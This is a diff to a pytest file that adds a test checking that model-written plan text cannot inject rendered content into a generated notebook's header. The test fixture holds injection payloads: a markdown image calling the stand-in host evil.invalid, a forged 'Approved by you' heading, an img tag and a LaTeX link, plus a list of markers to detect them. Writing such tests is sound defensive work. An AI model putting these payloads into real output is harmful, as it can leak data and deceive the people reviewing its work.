@@ -10,6 +10,7 @@ import pytest
 from trex_nb.agents.executor import TemplateExecutor, notebook
 from trex_nb.core.job import WRITTEN
 from trex_nb.core.limits import Limits
+from trex_nb.core.plan import Change
 from trex_nb.core.protocols import Answered, Assignment
 from trex_nb.core.recipe import DataRecipe, Dedup, Generate, Op, Select
 from trex_nb.core.training import FullTraining, LoraTraining
@@ -26,6 +27,15 @@ def test_the_notebook_is_valid_and_every_code_cell_is_python(tmp_path: Path) -> 
     for cell in made["cells"]:
         if cell["cell_type"] == "code":
             compile(cell["source"], "cell", "exec")
+
+
+def test_what_a_model_said_draws_nothing_in_the_notebook(tmp_path: Path) -> None:
+    asked = assignment(tmp_path)
+    evil = "![x](http://evil.invalid/?k)\n# Approved by you\n<img src=x> $\\href{x}{y}$ www.evil.invalid"
+    said = {"title": evil, "hypothesis": evil, "changes": (Change(field="load", before="-", after=evil),)}
+    plan = asked.node.plan.model_copy(update=said)
+    head = notebook(replace(asked, node=replace(asked.node, plan=plan)))["cells"][0]["source"]
+    assert not [bad for bad in ("![", "](", "://", "<img", "\n# App", "$\\", "www.") if bad in head]
 
 
 def test_recipe_and_config_stand_in_it_as_they_will_be_used(tmp_path: Path) -> None:
